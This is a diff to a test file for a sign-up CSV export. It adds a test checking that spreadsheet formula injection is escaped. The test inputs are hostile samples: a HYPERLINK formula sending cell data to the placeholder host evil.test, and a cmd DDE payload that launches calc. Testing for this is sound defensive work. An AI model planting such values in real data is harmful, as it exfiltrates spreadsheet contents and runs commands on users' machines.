@@ -232,11 +232,43 @@ describe('beta programme', () => {
   it('exports the sign-ups as CSV with their verified state', async () => {
     const rows = await createBetaRepository(server.database.db).all();
     const lines = signupsCsv(rows).trim().split('\n');
-    expect(lines[0]).toMatch(/^createdAt,firstName,lastName,phone,countryCode,email,verified,/);
+    expect(lines[0]).toMatch(
+      /^"createdAt","firstName","lastName","phone","countryCode","email","verified",/,
+    );
     expect(lines).toHaveLength(rows.length + 1);
-    expect(lines.find((l) => l.includes('Grace.Hopper@Example.org'))).toMatch(/,yes,/);
-    expect(lines.find((l) => l.includes('late@example.org'))).toMatch(/,no,/);
-    expect(lines.find((l) => l.includes('Grace.Hopper'))).toContain('parks;historic');
+    expect(lines.find((l) => l.includes('Grace.Hopper@Example.org'))).toMatch(/,"yes",/);
+    expect(lines.find((l) => l.includes('late@example.org'))).toMatch(/,"no",/);
+    expect(lines.find((l) => l.includes('Grace.Hopper'))).toContain('"parks;historic"');
+  });
+
+  it('exports cells a spreadsheet would run as formulas as text, keeping phone numbers as stored', async () => {
+    const hostile = {
+      ...valid,
+      firstName: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+      lastName: '@SUM(1+1)',
+      email: 'formula@example.org',
+      referralSource: "+1+cmd|' /C calc'!A0",
+    };
+    expect((await signup(hostile)).status).toBe(201);
+    const row = (await createBetaRepository(server.database.db).all()).find(
+      (r) => r.email === hostile.email,
+    )!;
+    const line = signupsCsv([row]).trim().split('\n')[1]!;
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")"`);
+    expect(line).toContain(`"'@SUM(1+1)"`);
+    expect(line).toContain(`"'+1+cmd|' /C calc'!A0"`);
+    // The E.164 phone is a plain number: nothing to run, and kept as stored for other readers.
+    expect(line).toContain('"+14155550132"');
+    // Every field quoted: a spreadsheet splitting at ";" cannot start a formula mid-field.
+    expect(line).toMatch(/^(?:"(?:[^"]|"")*")?(?:,(?:"(?:[^"]|"")*")?)*$/);
+
+    // What the wizard trims away can still be in the database: tab, carriage return, minus.
+    const cells = (values: Partial<typeof row>) =>
+      signupsCsv([{ ...row, ...values }])
+        .trim()
+        .split('\n')[1]!;
+    expect(cells({ firstName: '\t=1+1', lastName: '\r-2+3' })).toContain(`"'\t=1+1","'\r-2+3"`);
+    expect(cells({ firstName: ' =1+1', lastName: '-12.5' })).toContain(`"' =1+1","-12.5"`);
   });
 
   it('limits sign-ups to 10 an hour from one address', async () => {
